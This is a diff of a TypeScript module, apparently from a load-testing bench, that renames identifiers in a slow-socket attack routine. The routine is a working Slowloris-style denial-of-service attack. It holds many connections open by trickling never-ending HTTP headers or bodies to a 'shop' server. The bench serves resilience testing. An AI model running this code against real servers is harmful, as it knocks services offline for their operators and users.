@@ -1,25 +1,31 @@
 import { connect, type Socket } from 'node:net';
 import { setTimeout } from 'node:timers/promises';
 
-import type { SocketAttack } from './attacks.ts';
-import { getRequestErrorCode, Counter } from './client.ts';
-import type { AttackPlan, AttackResult } from './plan.ts';
+import type { BenchSlowSocketAttack } from './attacks.ts';
+import { getRequestErrorCode, RequestOutcomeCounter } from './client.ts';
+import type { FloodBenchAttackPlan, FloodBenchAttackResult } from './plan.ts';
 
 const CONNECTING_AT_ONCE = 200;
 /** Pause in milliseconds before a socket that the shop has closed or refused is opened again. */
-const AGAIN_MS = 5_000;
+const SOCKET_REOPEN_DELAY_MS = 5_000;
 
-const BODY_HEAD =
+const SLOW_BODY_REQUEST_HEAD =
   'POST /contact HTTP/1.1\r\nHost: shop\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 2000\r\n\r\n';
 /** A head that never ends, of which an idle socket sends only the first byte, and a body that never ends. */
-const SLOW_HEAD = { atOnce: '', slowly: `GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ${'x'.repeat(1_900)}` };
-const SLOW_BODY = { atOnce: BODY_HEAD, slowly: 'x'.repeat(1_900) };
+const SLOW_HEADER_ATTACK_DATA = {
+  atOnce: '',
+  slowly: `GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ${'x'.repeat(1_900)}`,
+};
+const SLOW_BODY_ATTACK_DATA = { atOnce: SLOW_BODY_REQUEST_HEAD, slowly: 'x'.repeat(1_900) };
 
 /** Opens sockets, reopens closed ones, and holds them until the time is over. */
-export async function attackBySockets(attack: SocketAttack, plan: AttackPlan): Promise<AttackResult> {
+export async function attackBySockets(
+  attack: BenchSlowSocketAttack,
+  plan: FloodBenchAttackPlan,
+): Promise<FloodBenchAttackResult> {
   const held = new Set<Socket>();
-  const answers = new Counter();
-  const refused = new Counter();
+  const answers = new RequestOutcomeCounter();
+  const refused = new RequestOutcomeCounter();
   let receivedBytes = 0;
   let maxDelayed = 0;
   const endsAt = performance.now() + plan.seconds * 1000;
@@ -40,10 +46,14 @@ export async function attackBySockets(attack: SocketAttack, plan: AttackPlan): P
   async function holdOne(slot: number): Promise<void> {
     while (!isOver()) {
       try {
-        const socket = await connected(plan);
+        const socket = await connectAttackSocket(plan);
         const closed = hold(socket);
         const isHead = attack.byteEveryMs === undefined || slot % 2 === 0;
-        const stop = speak(socket, isHead ? SLOW_HEAD : SLOW_BODY, attack.byteEveryMs);
+        const stop = startSendingBytesSlowly(
+          socket,
+          isHead ? SLOW_HEADER_ATTACK_DATA : SLOW_BODY_ATTACK_DATA,
+          attack.byteEveryMs,
+        );
         await closed;
         stop();
         held.delete(socket);
@@ -51,7 +61,7 @@ export async function attackBySockets(attack: SocketAttack, plan: AttackPlan): P
       } catch (error) {
         refused.add(getRequestErrorCode(error));
       }
-      await setTimeout(AGAIN_MS);
+      await setTimeout(SOCKET_REOPEN_DELAY_MS);
     }
   }
 
@@ -61,13 +71,14 @@ export async function attackBySockets(attack: SocketAttack, plan: AttackPlan): P
   return { answers: answers.counts, refused: refused.counts, receivedBytes, maxDelayed };
 }
 
-let connecting = 0;
-const waiting: (() => void)[] = [];
+let connectingSocketCount = 0;
+const pendingConnectionResolvers: (() => void)[] = [];
 
 /** Connects from the attacker's address, a few at a time. */
-async function connected({ host, port, address }: AttackPlan): Promise<Socket> {
-  if (connecting >= CONNECTING_AT_ONCE) await new Promise<void>((resolve) => waiting.push(resolve));
-  connecting++;
+async function connectAttackSocket({ host, port, address }: FloodBenchAttackPlan): Promise<Socket> {
+  if (connectingSocketCount >= CONNECTING_AT_ONCE)
+    await new Promise<void>((resolve) => pendingConnectionResolvers.push(resolve));
+  connectingSocketCount++;
   try {
     const { promise, resolve, reject } = Promise.withResolvers<Socket>();
     const socket = connect({ host, port, localAddress: address }, () => resolve(socket));
@@ -76,8 +87,8 @@ async function connected({ host, port, address }: AttackPlan): Promise<Socket> {
     socket.on('error', () => {});
     return await promise;
   } finally {
-    connecting--;
-    waiting.shift()?.();
+    connectingSocketCount--;
+    pendingConnectionResolvers.shift()?.();
   }
 }
 
@@ -85,7 +96,7 @@ async function connected({ host, port, address }: AttackPlan): Promise<Socket> {
  * Sends the first byte at once and, if requested, another one at every interval; returns the function that
  * stops it.
  */
-function speak(
+function startSendingBytesSlowly(
   socket: Socket,
   { atOnce, slowly }: { atOnce: string; slowly: string },
   byteEveryMs: number | undefined,
